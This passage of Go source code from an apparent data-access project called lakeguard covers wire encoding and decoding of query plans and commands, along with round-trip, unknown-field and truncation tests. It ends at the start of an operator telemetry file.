	if err != nil {
		return nil, err
	}
	if uint64(d.pos)+n > uint64(len(d.buf)) {
		return nil, ErrTruncated
	}
	b := d.buf[d.pos : d.pos+int(n)]
	d.pos += int(n)
	return b, nil
}

// skip consumes an unknown field (forward compatibility).
func (d *decoder) skip(wire int) error {
	switch wire {
	case wireVarint:
		_, err := d.uvarint()
		return err
	case wireBytes:
		_, err := d.bytes()
		return err
	}
	return fmt.Errorf("proto: unsupported wire type %d", wire)
}
