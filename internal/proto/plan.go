package proto

import (
	"fmt"

	"lakeguard/internal/arrowipc"
	"lakeguard/internal/plan"
	"lakeguard/internal/types"
)

// Relation type tags on the wire.
const (
	relUnresolved = 1
	relLocal      = 2
	relFilter     = 3
	relProject    = 4
	relAggregate  = 5
	relJoin       = 6
	relSort       = 7
	relLimit      = 8
	relDistinct   = 9
	relUnion      = 10
	relAlias      = 11
	relSQL        = 12
	relExtension  = 15
)

// ExtensionNode is a relation the core protocol does not know: a type URL
// plus opaque payload, preserved verbatim (the plugin mechanism of §3.2.2).
type ExtensionNode struct {
	TypeURL string
	Payload []byte
}

// Schema implements plan.Node.
func (x *ExtensionNode) Schema() *types.Schema { return &types.Schema{} }

// Children implements plan.Node.
func (x *ExtensionNode) Children() []plan.Node { return nil }

// WithChildren implements plan.Node.
func (x *ExtensionNode) WithChildren([]plan.Node) plan.Node { return x }

// String implements plan.Node.
func (x *ExtensionNode) String() string {
	return fmt.Sprintf("Extension %s (%d bytes)", x.TypeURL, len(x.Payload))
}

// EncodePlan serializes an unresolved relation tree.
func EncodePlan(n plan.Node) ([]byte, error) {
	var e encoder
	if err := encodeRelation(&e, n); err != nil {
		return nil, err
	}
	return e.buf, nil
}

// DecodePlan reverses EncodePlan.
func DecodePlan(data []byte) (plan.Node, error) {
	return decodeRelation(&decoder{buf: data})
}

// Relation message: field 1 = type tag (varint), field 2 = body (bytes).
func encodeRelation(e *encoder, n plan.Node) error {
	var tag int
	var body encoder
	switch t := n.(type) {
	case *plan.UnresolvedRelation:
		tag = relUnresolved
		for _, p := range t.Parts {
			body.StringAlways(1, p)
		}
		if t.AsOfVersion >= 0 {
			body.Varint(2, uint64(t.AsOfVersion)+1) // +1 so 0 is distinguishable
		}
	case *plan.LocalRelation:
		tag = relLocal
		data, err := arrowipc.EncodeBatch(t.Data)
		if err != nil {
			return err
		}
		body.Bytes(1, data)
	case *plan.Filter:
		tag = relFilter
		if err := encodeExprField(&body, 1, t.Cond); err != nil {
			return err
		}
		if err := encodeRelField(&body, 2, t.Child); err != nil {
			return err
		}
	case *plan.Project:
		tag = relProject
		for _, ex := range t.Exprs {
			if err := encodeExprField(&body, 1, ex); err != nil {
				return err
			}
		}
		if err := encodeRelField(&body, 2, t.Child); err != nil {
			return err
		}
	case *plan.Aggregate:
		tag = relAggregate
		for _, g := range t.GroupBy {
			if err := encodeExprField(&body, 1, g); err != nil {
				return err
			}
		}
		for _, a := range t.Aggs {
			if err := encodeExprField(&body, 2, a); err != nil {
				return err
			}
		}
		if err := encodeRelField(&body, 3, t.Child); err != nil {
			return err
		}
	case *plan.Join:
		tag = relJoin
		body.Varint(1, uint64(t.Type))
		if t.Cond != nil {
			if err := encodeExprField(&body, 2, t.Cond); err != nil {
				return err
			}
		}
		if err := encodeRelField(&body, 3, t.L); err != nil {
			return err
		}
		if err := encodeRelField(&body, 4, t.R); err != nil {
			return err
		}
	case *plan.Sort:
		tag = relSort
		for _, o := range t.Orders {
			var sub encoder
			if err := encodeExprField(&sub, 1, o.Expr); err != nil {
				return err
			}
			sub.Bool(2, o.Desc)
			body.Bytes(1, sub.buf)
		}
		if err := encodeRelField(&body, 2, t.Child); err != nil {
			return err
		}
	case *plan.Limit:
		tag = relLimit
		body.Varint(1, uint64(t.N))
		body.Varint(2, uint64(t.Offset))
		if err := encodeRelField(&body, 3, t.Child); err != nil {
			return err
		}
	case *plan.Distinct:
		tag = relDistinct
		if err := encodeRelField(&body, 1, t.Child); err != nil {
			return err
		}
	case *plan.Union:
		tag = relUnion
		if err := encodeRelField(&body, 1, t.L); err != nil {
			return err
		}
		if err := encodeRelField(&body, 2, t.R); err != nil {
			return err
		}
	case *plan.SubqueryAlias:
		tag = relAlias
		body.StringAlways(1, t.Name)
		if err := encodeRelField(&body, 2, t.Child); err != nil {
			return err
		}
	case *plan.SQLRelation:
		tag = relSQL
		body.StringAlways(1, t.Query)
	case *ExtensionNode:
		tag = relExtension
		body.StringAlways(1, t.TypeURL)
		body.Bytes(2, t.Payload)
	default:
		return fmt.Errorf("proto: relation %T is not wire-encodable (only unresolved plans cross the protocol)", n)
	}
	e.Varint(1, uint64(tag))
	e.Bytes(2, body.buf)
	return nil
}

func encodeRelField(e *encoder, field int, n plan.Node) error {
	var sub encoder
	if err := encodeRelation(&sub, n); err != nil {
		return err
	}
	e.Bytes(field, sub.buf)
	return nil
}

func decodeRelation(d *decoder) (plan.Node, error) {
	var tag uint64
	var body []byte
	for !d.done() {
		f, wire, err := d.field()
		if err != nil {
			return nil, err
		}
		switch f {
		case 1:
			tag, err = d.varint()
		case 2:
			body, err = d.bytes()
		default:
			err = d.skip(wire)
		}
		if err != nil {
			return nil, err
		}
	}
	if tag == 0 {
		return nil, fmt.Errorf("proto: relation missing type tag")
	}
	return decodeRelationBody(int(tag), &decoder{buf: body})
}

func decodeRelField(b []byte) (plan.Node, error) {
	return decodeRelation(&decoder{buf: b})
}

func decodeRelationBody(tag int, d *decoder) (plan.Node, error) {
	switch tag {
	case relUnresolved:
		out := &plan.UnresolvedRelation{AsOfVersion: -1}
		for !d.done() {
			f, wire, err := d.field()
			if err != nil {
				return nil, err
			}
			switch f {
			case 1:
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				out.Parts = append(out.Parts, string(b))
			case 2:
				v, err := d.varint()
				if err != nil {
					return nil, err
				}
				out.AsOfVersion = int64(v) - 1
			default:
				if err := d.skip(wire); err != nil {
					return nil, err
				}
			}
		}
		return out, nil

	case relLocal:
		var batch *types.Batch
		for !d.done() {
			f, wire, err := d.field()
			if err != nil {
				return nil, err
			}
			if f == 1 {
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				batch, err = arrowipc.DecodeBatch(b)
				if err != nil {
					return nil, err
				}
			} else if err := d.skip(wire); err != nil {
				return nil, err
			}
		}
		if batch == nil {
			return nil, fmt.Errorf("proto: local relation missing data")
		}
		return &plan.LocalRelation{Data: batch}, nil

	case relFilter:
		out := &plan.Filter{}
		for !d.done() {
			f, wire, err := d.field()
			if err != nil {
				return nil, err
			}
			switch f {
			case 1:
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				out.Cond, err = decodeExprField(b)
				if err != nil {
					return nil, err
				}
			case 2:
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				out.Child, err = decodeRelField(b)
				if err != nil {
					return nil, err
				}
			default:
				if err := d.skip(wire); err != nil {
					return nil, err
				}
			}
		}
		return out, nil

	case relProject:
		out := &plan.Project{}
		for !d.done() {
			f, wire, err := d.field()
			if err != nil {
				return nil, err
			}
			switch f {
			case 1:
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				ex, err := decodeExprField(b)
				if err != nil {
					return nil, err
				}
				out.Exprs = append(out.Exprs, ex)
			case 2:
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				out.Child, err = decodeRelField(b)
				if err != nil {
					return nil, err
				}
			default:
				if err := d.skip(wire); err != nil {
					return nil, err
				}
			}
		}
		return out, nil

	case relAggregate:
		out := &plan.Aggregate{}
		for !d.done() {
			f, wire, err := d.field()
			if err != nil {
				return nil, err
			}
			switch f {
			case 1, 2:
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				ex, err := decodeExprField(b)
				if err != nil {
					return nil, err
				}
				if f == 1 {
					out.GroupBy = append(out.GroupBy, ex)
				} else {
					out.Aggs = append(out.Aggs, ex)
				}
			case 3:
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				out.Child, err = decodeRelField(b)
				if err != nil {
					return nil, err
				}
			default:
				if err := d.skip(wire); err != nil {
					return nil, err
				}
			}
		}
		return out, nil

	case relJoin:
		out := &plan.Join{}
		for !d.done() {
			f, wire, err := d.field()
			if err != nil {
				return nil, err
			}
			switch f {
			case 1:
				v, err := d.varint()
				if err != nil {
					return nil, err
				}
				out.Type = plan.JoinType(v)
			case 2:
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				out.Cond, err = decodeExprField(b)
				if err != nil {
					return nil, err
				}
			case 3:
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				out.L, err = decodeRelField(b)
				if err != nil {
					return nil, err
				}
			case 4:
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				out.R, err = decodeRelField(b)
				if err != nil {
					return nil, err
				}
			default:
				if err := d.skip(wire); err != nil {
					return nil, err
				}
			}
		}
		return out, nil

	case relSort:
		out := &plan.Sort{}
		for !d.done() {
			f, wire, err := d.field()
			if err != nil {
				return nil, err
			}
			switch f {
			case 1:
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				ord, err := decodeSortOrder(b)
				if err != nil {
					return nil, err
				}
				out.Orders = append(out.Orders, ord)
			case 2:
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				out.Child, err = decodeRelField(b)
				if err != nil {
					return nil, err
				}
			default:
				if err := d.skip(wire); err != nil {
					return nil, err
				}
			}
		}
		return out, nil

	case relLimit:
		out := &plan.Limit{}
		for !d.done() {
			f, wire, err := d.field()
			if err != nil {
				return nil, err
			}
			switch f {
			case 1:
				v, err := d.varint()
				if err != nil {
					return nil, err
				}
				out.N = int64(v)
			case 2:
				v, err := d.varint()
				if err != nil {
					return nil, err
				}
				out.Offset = int64(v)
			case 3:
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				out.Child, err = decodeRelField(b)
				if err != nil {
					return nil, err
				}
			default:
				if err := d.skip(wire); err != nil {
					return nil, err
				}
			}
		}
		return out, nil

	case relDistinct:
		out := &plan.Distinct{}
		if err := decodeSingleChild(d, func(n plan.Node) { out.Child = n }); err != nil {
			return nil, err
		}
		return out, nil

	case relUnion:
		out := &plan.Union{}
		for !d.done() {
			f, wire, err := d.field()
			if err != nil {
				return nil, err
			}
			switch f {
			case 1, 2:
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				n, err := decodeRelField(b)
				if err != nil {
					return nil, err
				}
				if f == 1 {
					out.L = n
				} else {
					out.R = n
				}
			default:
				if err := d.skip(wire); err != nil {
					return nil, err
				}
			}
		}
		return out, nil

	case relAlias:
		out := &plan.SubqueryAlias{}
		for !d.done() {
			f, wire, err := d.field()
			if err != nil {
				return nil, err
			}
			switch f {
			case 1:
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				out.Name = string(b)
			case 2:
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				out.Child, err = decodeRelField(b)
				if err != nil {
					return nil, err
				}
			default:
				if err := d.skip(wire); err != nil {
					return nil, err
				}
			}
		}
		return out, nil

	case relSQL:
		out := &plan.SQLRelation{}
		for !d.done() {
			f, wire, err := d.field()
			if err != nil {
				return nil, err
			}
			if f == 1 {
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				out.Query = string(b)
			} else if err := d.skip(wire); err != nil {
				return nil, err
			}
		}
		return out, nil

	case relExtension:
		out := &ExtensionNode{}
		for !d.done() {
			f, wire, err := d.field()
			if err != nil {
				return nil, err
			}
			switch f {
			case 1:
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				out.TypeURL = string(b)
			case 2:
				b, err := d.bytes()
				if err != nil {
					return nil, err
				}
				out.Payload = append([]byte{}, b...)
			default:
				if err := d.skip(wire); err != nil {
					return nil, err
				}
			}
		}
		return out, nil
	}
	// Unknown relation types fail loudly: silently dropping a relation
	// would corrupt query semantics.
	return nil, fmt.Errorf("proto: unknown relation type %d (newer client?)", tag)
}

func decodeSingleChild(d *decoder, set func(plan.Node)) error {
	for !d.done() {
		f, wire, err := d.field()
		if err != nil {
			return err
		}
		if f == 1 {
			b, err := d.bytes()
			if err != nil {
				return err
			}
			n, err := decodeRelField(b)
			if err != nil {
				return err
			}
			set(n)
		} else if err := d.skip(wire); err != nil {
			return err
		}
	}
	return nil
}

func decodeSortOrder(b []byte) (plan.SortOrder, error) {
	d := &decoder{buf: b}
	var out plan.SortOrder
	for !d.done() {
		f, wire, err := d.field()
		if err != nil {
			return out, err
		}
		switch f {
		case 1:
			eb, err := d.bytes()
			if err != nil {
				return out, err
			}
			out.Expr, err = decodeExprField(eb)
			if err != nil {
				return out, err
			}
		case 2:
			v, err := d.varint()
			if err != nil {
				return out, err
			}
			out.Desc = v == 1
		default:
			if err := d.skip(wire); err != nil {
				return out, err
			}
		}
	}
	return out, nil
}
