package proto

import (
	"math/rand"
	"strings"
	"testing"

	"lakeguard/internal/plan"
	"lakeguard/internal/types"
)

func roundTripPlan(t *testing.T, n plan.Node) plan.Node {
	t.Helper()
	data, err := EncodePlan(n)
	if err != nil {
		t.Fatalf("encode: %v", err)
	}
	out, err := DecodePlan(data)
	if err != nil {
		t.Fatalf("decode: %v", err)
	}
	if plan.Explain(out) != plan.Explain(n) {
		t.Fatalf("round trip mismatch:\nwant:\n%s\ngot:\n%s", plan.Explain(n), plan.Explain(out))
	}
	return out
}

func samplePlan() plan.Node {
	return &plan.Limit{
		N: 10,
		Child: &plan.Sort{
			Orders: []plan.SortOrder{{Expr: plan.Col("total"), Desc: true}},
			Child: &plan.Aggregate{
				GroupBy: []plan.Expr{plan.Col("region")},
				Aggs: []plan.Expr{
					plan.Col("region"),
					plan.As(&plan.FuncCall{Name: "sum", Args: []plan.Expr{plan.Col("amount")}}, "total"),
				},
				Child: &plan.Filter{
					Cond: plan.And(
						plan.Eq(plan.Col("date"), plan.Lit(types.String("2024-12-01"))),
						&plan.InList{Child: plan.Col("region"), List: []plan.Expr{plan.Lit(types.String("US")), plan.Lit(types.String("EU"))}},
					),
					Child: &plan.Join{
						Type: plan.JoinLeft,
						Cond: plan.Eq(plan.Col("s.seller"), plan.Col("q.seller")),
						L:    &plan.SubqueryAlias{Name: "s", Child: plan.NewUnresolvedRelation("main", "default", "sales")},
						R:    &plan.SubqueryAlias{Name: "q", Child: plan.NewUnresolvedRelation("quotas")},
					},
				},
			},
		},
	}
}

func TestPlanRoundTrip(t *testing.T) {
	roundTripPlan(t, samplePlan())
}

func TestRelationVariants(t *testing.T) {
	bb := types.NewBatchBuilder(types.NewSchema(types.Field{Name: "x", Kind: types.KindInt64}), 2)
	bb.AppendRow([]types.Value{types.Int64(1)})
	bb.AppendRow([]types.Value{types.Int64(2)})
	nodes := []plan.Node{
		plan.NewUnresolvedRelation("t"),
		&plan.UnresolvedRelation{Parts: []string{"t"}, AsOfVersion: 0},
		&plan.UnresolvedRelation{Parts: []string{"t"}, AsOfVersion: 7},
		&plan.LocalRelation{Data: bb.Build()},
		&plan.Distinct{Child: plan.NewUnresolvedRelation("t")},
		&plan.Union{L: plan.NewUnresolvedRelation("a"), R: plan.NewUnresolvedRelation("b")},
		&plan.SQLRelation{Query: "SELECT 1"},
		&plan.Limit{N: 5, Offset: 3, Child: plan.NewUnresolvedRelation("t")},
	}
	for _, n := range nodes {
		roundTripPlan(t, n)
	}
	// LocalRelation data survives.
	out := roundTripPlan(t, &plan.LocalRelation{Data: bb.Build()})
	lr := out.(*plan.LocalRelation)
	if lr.Data.NumRows() != 2 || lr.Data.Cols[0].Int64(1) != 2 {
		t.Error("local relation data lost")
	}
}

func TestExprVariants(t *testing.T) {
	d, _ := types.DateFromString("2024-06-01")
	exprs := []plan.Expr{
		plan.Lit(types.Int64(42)),
		plan.Lit(types.Float64(2.5)),
		plan.Lit(types.String("hi")),
		plan.Lit(types.Bool(true)),
		plan.Lit(types.Null(types.KindString)),
		plan.Lit(d),
		plan.Col("a"),
		plan.Col("t.a"),
		&plan.Star{Qualifier: "t"},
		&plan.Star{},
		plan.As(plan.Col("x"), "y"),
		&plan.Unary{Op: plan.OpNot, Child: plan.Col("p")},
		&plan.Unary{Op: plan.OpNeg, Child: plan.Col("n")},
		&plan.IsNull{Child: plan.Col("a"), Negated: true},
		&plan.Like{Child: plan.Col("s"), Pattern: plan.Lit(types.String("%x%")), Negated: true},
		&plan.Case{
			Whens: []plan.WhenClause{{Cond: plan.Col("p"), Then: plan.Lit(types.Int64(1))}},
			Else:  plan.Lit(types.Int64(0)),
		},
		&plan.Case{Whens: []plan.WhenClause{{Cond: plan.Col("p"), Then: plan.Col("q")}}},
		&plan.Cast{Child: plan.Col("s"), To: types.KindDate},
		&plan.FuncCall{Name: "count", Distinct: true, Args: []plan.Expr{plan.Col("x")}},
		&plan.CurrentUser{},
		&plan.GroupMember{Group: "hr"},
	}
	for _, ex := range exprs {
		data, err := EncodeExpr(ex)
		if err != nil {
			t.Fatalf("encode %s: %v", ex.String(), err)
		}
		out, err := DecodeExpr(data)
		if err != nil {
			t.Fatalf("decode %s: %v", ex.String(), err)
		}
		if out.String() != ex.String() {
			t.Errorf("round trip: got %s want %s", out.String(), ex.String())
		}
	}
}

func TestAllBinaryOps(t *testing.T) {
	for op := plan.OpAdd; op <= plan.OpConcat; op++ {
		ex := plan.NewBinary(op, plan.Col("a"), plan.Col("b"))
		data, _ := EncodeExpr(ex)
		out, err := DecodeExpr(data)
		if err != nil || out.String() != ex.String() {
			t.Errorf("op %v round trip failed: %v", op, err)
		}
	}
}

func TestCommandRoundTrip(t *testing.T) {
	cmds := []*Command{
		{SQL: "CREATE TABLE t (a BIGINT)"},
		{CreateTempView: &CreateTempView{Name: "tv", Input: plan.NewUnresolvedRelation("t")}},
		{RegisterFunction: &RegisterFunction{
			Name:    "boost",
			Params:  []types.Field{{Name: "x", Kind: types.KindFloat64}},
			Returns: types.KindFloat64,
			Body:    "return x * 1.1",
		}},
		{InsertInto: &InsertInto{Table: []string{"main", "default", "t"}, Input: plan.NewUnresolvedRelation("src")}},
	}
	for _, c := range cmds {
		data, err := EncodeRootPlan(&Plan{Command: c})
		if err != nil {
			t.Fatal(err)
		}
		out, err := DecodeRootPlan(data)
		if err != nil {
			t.Fatal(err)
		}
		got := out.Command
		switch {
		case c.SQL != "":
			if got.SQL != c.SQL {
				t.Errorf("sql = %q", got.SQL)
			}
		case c.CreateTempView != nil:
			if got.CreateTempView == nil || got.CreateTempView.Name != "tv" || got.CreateTempView.Input == nil {
				t.Errorf("temp view = %+v", got.CreateTempView)
			}
		case c.RegisterFunction != nil:
			rf := got.RegisterFunction
			if rf == nil || rf.Name != "boost" || len(rf.Params) != 1 || rf.Params[0].Kind != types.KindFloat64 ||
				rf.Returns != types.KindFloat64 || !strings.Contains(rf.Body, "1.1") {
				t.Errorf("register = %+v", rf)
			}
		case c.InsertInto != nil:
			if got.InsertInto == nil || len(got.InsertInto.Table) != 3 || got.InsertInto.Input == nil {
				t.Errorf("insert = %+v", got.InsertInto)
			}
		}
	}
}

func TestRootPlanRelation(t *testing.T) {
	data, err := EncodeRootPlan(&Plan{Relation: samplePlan()})
	if err != nil {
		t.Fatal(err)
	}
	out, err := DecodeRootPlan(data)
	if err != nil {
		t.Fatal(err)
	}
	if out.Relation == nil || plan.Explain(out.Relation) != plan.Explain(samplePlan()) {
		t.Error("relation root mismatch")
	}
	if _, err := EncodeRootPlan(&Plan{}); err == nil {
		t.Error("empty plan should fail")
	}
	if _, err := DecodeRootPlan(nil); err == nil {
		t.Error("empty bytes should fail")
	}
}

// TestUnknownFieldTolerance verifies forward compatibility: a message with
// extra fields (from a newer client) decodes cleanly, ignoring them.
func TestUnknownFieldTolerance(t *testing.T) {
	data, err := EncodePlan(plan.NewUnresolvedRelation("sales"))
	if err != nil {
		t.Fatal(err)
	}
	// Append an unknown varint field (field 9) and an unknown bytes field
	// (field 10) at the top level.
	var e encoder
	e.buf = append(e.buf, data...)
	e.Varint(9, 12345)
	e.Bytes(10, []byte("future-extension"))
	out, err := DecodePlan(e.buf)
	if err != nil {
		t.Fatalf("decode with unknown fields: %v", err)
	}
	rel, ok := out.(*plan.UnresolvedRelation)
	if !ok || rel.Name() != "sales" {
		t.Errorf("decoded = %v", out)
	}
}

// TestUnknownRelationTypeFails verifies a genuinely unknown relation type is
// an explicit error rather than silent corruption.
func TestUnknownRelationTypeFails(t *testing.T) {
	var e encoder
	e.Varint(1, 999)
	e.Bytes(2, nil)
	if _, err := DecodePlan(e.buf); err == nil || !strings.Contains(err.Error(), "unknown relation") {
		t.Errorf("err = %v", err)
	}
}

func TestExtensionRoundTrip(t *testing.T) {
	n := &plan.Filter{
		Cond:  plan.Col("x"),
		Child: &ExtensionNode{TypeURL: "type.example.com/delta.Vacuum", Payload: []byte{1, 2, 3}},
	}
	out := roundTripPlan(t, n)
	ext := out.(*plan.Filter).Child.(*ExtensionNode)
	if ext.TypeURL != "type.example.com/delta.Vacuum" || len(ext.Payload) != 3 {
		t.Errorf("extension = %+v", ext)
	}
}

func TestResolvedExpressionsRejected(t *testing.T) {
	// BoundRefs never cross the wire: the protocol is unresolved-plan only.
	if _, err := EncodeExpr(&plan.BoundRef{Index: 1, Name: "x", Kind: types.KindInt64}); err == nil {
		t.Error("BoundRef should not encode")
	}
	if _, err := EncodePlan(&plan.SecureView{Name: "v", Child: plan.NewUnresolvedRelation("t")}); err == nil {
		t.Error("SecureView should not encode")
	}
}

func TestTruncationNeverPanics(t *testing.T) {
	data, _ := EncodePlan(samplePlan())
	rng := rand.New(rand.NewSource(7))
	for i := 0; i < 200; i++ {
		cut := rng.Intn(len(data))
		_, _ = DecodePlan(data[:cut]) // must not panic; errors are fine
		// Also corrupt random bytes.
		cp := append([]byte{}, data...)
		cp[rng.Intn(len(cp))] ^= 0xff
		_, _ = DecodePlan(cp)
	}
}

func TestFloatValueRoundTrip(t *testing.T) {
	for _, f := range []float64{0, 1.5, -2.25, 1e300} {
		data, _ := EncodeExpr(plan.Lit(types.Float64(f)))
		out, err := DecodeExpr(data)
		if err != nil {
			t.Fatal(err)
		}
		if out.(*plan.Literal).Value.F != f {
			t.Errorf("float %v mangled", f)
		}
	}
	// Negative ints use zigzag.
	data, _ := EncodeExpr(plan.Lit(types.Int64(-42)))
	out, _ := DecodeExpr(data)
	if out.(*plan.Literal).Value.I != -42 {
		t.Error("negative int mangled")
	}
}
