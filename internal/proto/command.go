package proto

import (
	"fmt"
	"math"

	"lakeguard/internal/plan"
	"lakeguard/internal/types"
)

func floatFromBits(u uint64) float64 { return math.Float64frombits(u) }

// Plan is the root of one Connect execution: a pure relation or a
// side-effecting command (the Relation/Command split of §3.2.2).
type Plan struct {
	Relation plan.Node
	Command  *Command
	// AllowSpill permits the server to return a spill manifest instead of
	// inline rows for large results (the eFGAC result-mode choice, §3.4).
	AllowSpill bool
	// WorkloadEnv selects the versioned Workload Environment user code
	// executes in (§6.3); empty means the server default.
	WorkloadEnv string
}

// Command is a side-effecting execution root.
type Command struct {
	// SQL executes a raw SQL statement server-side (DDL, DML, GRANT, ...).
	SQL string
	// CreateTempView registers a session-scoped view over a relation.
	CreateTempView *CreateTempView
	// RegisterFunction registers a session-scoped PyLite UDF.
	RegisterFunction *RegisterFunction
	// InsertInto appends a relation's result into a table.
	InsertInto *InsertInto
}

// CreateTempView registers a session temp view.
type CreateTempView struct {
	Name  string
	Input plan.Node
}

// RegisterFunction registers an ephemeral UDF.
type RegisterFunction struct {
	Name    string
	Params  []types.Field
	Returns types.Kind
	Body    string
	// Resources names a specialized execution environment requirement.
	Resources string
}

// InsertInto appends query results into a table.
type InsertInto struct {
	Table []string
	Input plan.Node
}

// Command type tags.
const (
	cmdSQL      = 1
	cmdTempView = 2
	cmdRegister = 3
	cmdInsert   = 4
)

// Plan fields: 1 = relation, 2 = command.

// EncodeRootPlan serializes a Plan (relation or command).
func EncodeRootPlan(p *Plan) ([]byte, error) {
	var e encoder
	switch {
	case p.Relation != nil:
		if err := encodeRelField(&e, 1, p.Relation); err != nil {
			return nil, err
		}
	case p.Command != nil:
		var c encoder
		if err := encodeCommand(&c, p.Command); err != nil {
			return nil, err
		}
		e.Bytes(2, c.buf)
	default:
		return nil, fmt.Errorf("proto: empty plan")
	}
	e.Bool(3, p.AllowSpill)
	e.String(4, p.WorkloadEnv)
	return e.buf, nil
}

// DecodeRootPlan reverses EncodeRootPlan.
func DecodeRootPlan(data []byte) (*Plan, error) {
	d := &decoder{buf: data}
	out := &Plan{}
	for !d.done() {
		f, wire, err := d.field()
		if err != nil {
			return nil, err
		}
		switch f {
		case 1:
			b, err := d.bytes()
			if err != nil {
				return nil, err
			}
			out.Relation, err = decodeRelField(b)
			if err != nil {
				return nil, err
			}
		case 2:
			b, err := d.bytes()
			if err != nil {
				return nil, err
			}
			out.Command, err = decodeCommand(b)
			if err != nil {
				return nil, err
			}
		case 3:
			v, err := d.varint()
			if err != nil {
				return nil, err
			}
			out.AllowSpill = v == 1
		case 4:
			b, err := d.bytes()
			if err != nil {
				return nil, err
			}
			out.WorkloadEnv = string(b)
		default:
			if err := d.skip(wire); err != nil {
				return nil, err
			}
		}
	}
	if out.Relation == nil && out.Command == nil {
		return nil, fmt.Errorf("proto: plan has neither relation nor command")
	}
	return out, nil
}

func encodeCommand(e *encoder, c *Command) error {
	switch {
	case c.SQL != "":
		e.Varint(1, cmdSQL)
		e.Msg(2, func(sub *encoder) { sub.StringAlways(1, c.SQL) })
	case c.CreateTempView != nil:
		e.Varint(1, cmdTempView)
		var body encoder
		body.StringAlways(1, c.CreateTempView.Name)
		if err := encodeRelField(&body, 2, c.CreateTempView.Input); err != nil {
			return err
		}
		e.Bytes(2, body.buf)
	case c.RegisterFunction != nil:
		e.Varint(1, cmdRegister)
		var body encoder
		rf := c.RegisterFunction
		body.StringAlways(1, rf.Name)
		for _, p := range rf.Params {
			body.Msg(2, func(sub *encoder) {
				sub.StringAlways(1, p.Name)
				sub.Varint(2, uint64(p.Kind))
			})
		}
		body.Varint(3, uint64(rf.Returns))
		body.StringAlways(4, rf.Body)
		body.String(5, rf.Resources)
		e.Bytes(2, body.buf)
	case c.InsertInto != nil:
		e.Varint(1, cmdInsert)
		var body encoder
		for _, p := range c.InsertInto.Table {
			body.StringAlways(1, p)
		}
		if err := encodeRelField(&body, 2, c.InsertInto.Input); err != nil {
			return err
		}
		e.Bytes(2, body.buf)
	default:
		return fmt.Errorf("proto: empty command")
	}
	return nil
}

func decodeCommand(data []byte) (*Command, error) {
	d := &decoder{buf: data}
	var tag uint64
	var body []byte
	for !d.done() {
		f, wire, err := d.field()
		if err != nil {
			return nil, err
		}
		switch f {
		case 1:
			tag, err = d.varint()
		case 2:
			body, err = d.bytes()
		default:
			err = d.skip(wire)
		}
		if err != nil {
			return nil, err
		}
	}
	bd := &decoder{buf: body}
	switch tag {
	case cmdSQL:
		ef, err := collectFields(bd)
		if err != nil {
			return nil, err
		}
		return &Command{SQL: ef.str(1)}, nil
	case cmdTempView:
		ef, err := collectFields(bd)
		if err != nil {
			return nil, err
		}
		tv := &CreateTempView{Name: ef.str(1)}
		if msgs := ef.rawMsgs[2]; len(msgs) > 0 {
			n, err := decodeRelField(msgs[0])
			if err != nil {
				return nil, err
			}
			tv.Input = n
		}
		if tv.Input == nil {
			return nil, fmt.Errorf("proto: temp view %q missing input", tv.Name)
		}
		return &Command{CreateTempView: tv}, nil
	case cmdRegister:
		ef, err := collectFields(bd)
		if err != nil {
			return nil, err
		}
		rf := &RegisterFunction{Name: ef.str(1), Returns: types.Kind(ef.ints[3]), Body: ef.str(4), Resources: ef.str(5)}
		for _, pm := range ef.rawMsgs[2] {
			pf, err := collectFields(&decoder{buf: pm})
			if err != nil {
				return nil, err
			}
			rf.Params = append(rf.Params, types.Field{
				Name: pf.str(1), Kind: types.Kind(pf.ints[2]), Nullable: true,
			})
		}
		return &Command{RegisterFunction: rf}, nil
	case cmdInsert:
		ef, err := collectFields(bd)
		if err != nil {
			return nil, err
		}
		ins := &InsertInto{}
		for _, t := range ef.rawMsgs[1] {
			ins.Table = append(ins.Table, string(t))
		}
		if msgs := ef.rawMsgs[2]; len(msgs) > 0 {
			n, err := decodeRelField(msgs[0])
			if err != nil {
				return nil, err
			}
			ins.Input = n
		}
		if len(ins.Table) == 0 || ins.Input == nil {
			return nil, fmt.Errorf("proto: insert command incomplete")
		}
		return &Command{InsertInto: ins}, nil
	}
	return nil, fmt.Errorf("proto: unknown command type %d (newer client?)", tag)
}
