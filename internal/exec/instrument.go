// Operator-level telemetry: every physical operator gets a span in the
// query's trace and an OpStats sink in the query's EXPLAIN ANALYZE profile.
// Instrumentation is pay-for-use — when the query carries neither a span
// context nor a profile, build() compiles the bare operator tree and the hot
// path allocates nothing.
package exec

import (
	"errors"
	"fmt"
	"io"
	"time"

	"lakeguard/internal/plan"
	"lakeguard/internal/telemetry"
	"lakeguard/internal/types"
)

// opLabel names a plan node for spans and profiles, with a short detail
// string (table, predicate, key counts) for the annotated tree.
func opLabel(p plan.Node) (name, detail string) {
	switch t := p.(type) {
	case *plan.LocalRelation:
		return "LocalRelation", ""
	case *plan.Scan:
		d := t.Table
		if len(t.PushedFilters) > 0 {
			d = fmt.Sprintf("%s, %d pushed filters", d, len(t.PushedFilters))
		}
		return "Scan", d
	case *plan.RemoteScan:
		return "RemoteScan", t.Relation
	case *plan.SecureView:
		return "SecureView", t.Name
	case *plan.SubqueryAlias:
		return "SubqueryAlias", t.Name
	case *plan.Filter:
		return "Filter", t.Cond.String()
	case *plan.Project:
		return "Project", fmt.Sprintf("%d exprs", len(t.Exprs))
	case *plan.Aggregate:
		return "Aggregate", fmt.Sprintf("%d keys, %d aggs", len(t.GroupBy), len(t.Aggs))
	case *plan.Join:
		return "Join", t.Type.String()
	case *plan.Sort:
